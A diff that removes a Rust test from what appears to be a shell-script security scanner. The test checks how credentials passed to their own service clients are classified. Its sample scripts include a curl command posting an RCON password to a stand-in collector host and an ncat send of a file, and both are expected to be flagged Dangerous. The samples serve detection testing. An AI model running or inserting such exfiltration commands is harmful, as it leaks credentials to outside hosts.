@@ -86,51 +86,6 @@ fn a_dotenv_line_test_that_skips_other_lines_picks_the_setting() {
     crate::has_rule(&report, "secret-to-network");
 }
 
-/// A credential variable given in the argument list of its own service's client: the program
-/// named after the first word of the variable (`mcrcon` for `RCON_PASSWORD`, `strapi` for
-/// `STRAPI_BACKUP_KEY`) or the token table's CLI (`vercel` for `VERCEL_TOKEN`), connecting
-/// nowhere else the command names.
-#[test]
-fn a_credential_given_to_its_own_service_client_is_used() {
-    let clean = [
-        "#!/usr/bin/env bash\nset -euo pipefail\nRCON_HOST=\"${RCON_HOST:-127.0.0.1}\"\n\
-         rcon() {\n  [[ -n \"${RCON_PASSWORD:-}\" ]] || exit 1\n  \
-         mcrcon -H \"$RCON_HOST\" -P 25575 -p \"$RCON_PASSWORD\" \"$@\"\n}\nrcon save-all\n",
-        "#!/usr/bin/env bash\nset -euo pipefail\nstrapi() {\n  (cd cms && npx --no-install strapi \"$@\")\n}\n\
-         : \"${STRAPI_BACKUP_KEY:?missing}\"\n\
-         strapi export --file build/backup --key \"$STRAPI_BACKUP_KEY\"\n",
-        "#!/usr/bin/env bash\nset -euo pipefail\nvercel deploy --prod --token \"$VERCEL_TOKEN\" --yes\n",
-    ];
-    for code in clean {
-        crate::verdict(Language::Shell, code, Clean);
-    }
-    // Twins: the client told to connect elsewhere; a program of another name; a generic
-    // variable word (`API_KEY` is nobody's).
-    let read = [
-        "#!/usr/bin/env bash\nmcrcon -H game.example.net -P 25575 -p \"$RCON_PASSWORD\" save-all\n",
-        "#!/usr/bin/env bash\nbackup-tool export --file build/backup --key \"$STRAPI_BACKUP_KEY\"\n",
-        "#!/usr/bin/env bash\napitool push --key \"$API_KEY\"\n",
-    ];
-    for code in read {
-        let report = crate::verdict(Language::Shell, code, Suspicious);
-        crate::has_rule(&report, "secret-read");
-    }
-    // A raw socket named like the service's variable carries what it is given anywhere.
-    crate::verdict(
-        Language::Shell,
-        "#!/usr/bin/env bash\nncat --send-only -p \"$NCAT_PASSWORD\" 127.0.0.1 9000 < build/x\n",
-        Dangerous,
-    );
-    // Given to its client but also sent to a host nobody knows: sent away.
-    let report = crate::verdict(
-        Language::Shell,
-        "#!/usr/bin/env bash\nmcrcon -H 127.0.0.1 -p \"$RCON_PASSWORD\" save-all\n\
-         curl -fsS -d \"p=$RCON_PASSWORD\" https://collector.example.net/in\n",
-        Dangerous,
-    );
-    crate::has_rule(&report, "secret-to-network");
-}
-
 /// `[[ "$d" == "$REPORT_ROOT"/20* ]] || continue` before `rm -rf -- "$d"`: a pattern of
 /// entries whose names start alike under a directory holds the path under it, as
 /// `"$REPORT_ROOT"/*` does; and a slice of an array (`"${dirs[@]:0:excess}"`) holds elements
